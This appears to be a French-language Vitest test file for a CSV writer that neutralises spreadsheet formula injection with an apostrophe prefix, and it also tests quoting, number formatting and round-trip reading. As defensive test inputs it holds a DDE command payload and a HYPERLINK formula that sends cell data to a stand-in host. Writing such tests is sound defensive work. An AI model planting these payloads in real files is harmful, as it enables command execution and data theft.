import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { decouperCsv } from '$lib/import/sniff';
import { ecrireCsv } from './csv';
import { csvEcole } from './ecole';

/** The one data cell of a one-column document, as written. */
const cellule = (valeur: string) => ecrireCsv(['c'], [[valeur]]).slice('\ufeffc\r\n'.length, -2);

describe('formules neutralisées (injection CSV)', () => {
	it.each([
		['=1+1', `"'=1+1"`],
		['=HYPERLINK("http://x";"clic")', `"'=HYPERLINK(""http://x"";""clic"")"`],
		['+33 6 12 34 56 78', `"'+33 6 12 34 56 78"`],
		['-2+3', `"'-2+3"`],
		["-cmd|' /C calc'!A0", `"'-cmd|' /C calc'!A0"`],
		['@SUM(A1:A2)', `"'@SUM(A1:A2)"`],
		['\t=1+1', `"'\t=1+1"`],
		['\r=1+1', `"'\r=1+1"`],
		// papaparse's default pattern lets this one through (its `.` stops at the line break).
		['=1+1\nsuite', `"'=1+1\nsuite"`]
	])('%j → %j', (entree, sortie) => expect(cellule(entree)).toBe(sortie));

	it.each(['-3', '-3,5', '+4.25', '-1.2E+3', '12', '', 'École', 'a=b'])(
		'laisse %j tel quel (nombre ou début sans danger)',
		(v) => expect(cellule(v)).toBe(v)
	);

	it('écrit en texte le nom d’école piégé d’un fichier importé, et garde les écarts négatifs en nombres', () => {
		const csv = csvEcole(
			'0219901Y',
			'=HYPERLINK("http://x.example/?"&A1;"École")',
			[
				{
					cle: 'CP|X',
					niveau: 'CP',
					discipline: 'FR',
					competence: '@SOMME(A1:A9)',
					n: 25,
					part: 0.4,
					bas: 0.3,
					haut: 0.5,
					partBesoin: 0.2,
					reference: 0.6,
					source: '-source',
					annee: '2024-2025',
					attendu: {
						part: 0.55,
						ecart: -0.15,
						bas: -0.25,
						haut: -0.05,
						statut: 'point_vigilance',
						explication: '',
						regroupement: null,
						n: 12
					}
				}
			],
			'Académie'
		);
		const [, ligne] = Papa.parse<string[]>(csv.slice(1), { delimiter: ';' }).data;
		expect(ligne[1]).toBe(`'=HYPERLINK("http://x.example/?"&A1;"École")`);
		expect(ligne[5]).toBe(`'@SOMME(A1:A9)`);
		expect(ligne.at(-1)).toBe(`'-source`);
		expect(ligne.slice(13, 17)).toEqual(['55', '-15', '-25', '-5']);
	});
});

describe('écriture CSV pour Excel', () => {
	it('met entre guillemets ce qui contient le séparateur, un guillemet ou un saut de ligne', () => {
		expect(cellule('a;b')).toBe('"a;b"');
		expect(cellule('dit "oui"')).toBe('"dit ""oui"""');
		expect(cellule('deux\nlignes')).toBe('"deux\nlignes"');
		expect(cellule('=1;2')).toBe(`"'=1;2"`);
		expect(cellule('a,b')).toBe('a,b');
	});

	it('écrit les nombres avec une virgule, le vide pour null, 1/0 pour les booléens', () => {
		const t = ecrireCsv(
			['a', 'b', 'c', 'd', 'e', 'f', 'g'],
			[[12.5, null, undefined, true, false, -3, Number.NaN]]
		);
		expect(t.split('\r\n')[1]).toBe('12,5;;;1;0;-3;');
	});

	it('écrit BOM, en-tête et lignes terminées par CRLF', () => {
		const t = ecrireCsv(['uai', 'nom'], [['0219901Y', 'École ; des Tilleuls']]);
		expect(t).toBe('\ufeffuai;nom\r\n0219901Y;"École ; des Tilleuls"\r\n');
		expect(ecrireCsv(['a'], [])).toBe('\ufeffa\r\n');
	});

	it('se relit à l’identique (hors apostrophe de neutralisation)', () => {
		const lignes = [
			['a;b', 'x"y', 'deux\r\nlignes', '=SOMME(A1)', ''],
			['École', 'l’œuvre', '5 €', '-7', '@x']
		];
		const relu = decouperCsv(ecrireCsv(['c1', 'c2', 'c3', 'c4', 'c5'], lignes).slice(1), ';');
		expect(relu.map((r) => r.cellules)).toEqual([
			['c1', 'c2', 'c3', 'c4', 'c5'],
			['a;b', 'x"y', 'deux\r\nlignes', "'=SOMME(A1)", ''],
			['École', 'l’œuvre', '5 €', '-7', "'@x"]
		]);
	});
});
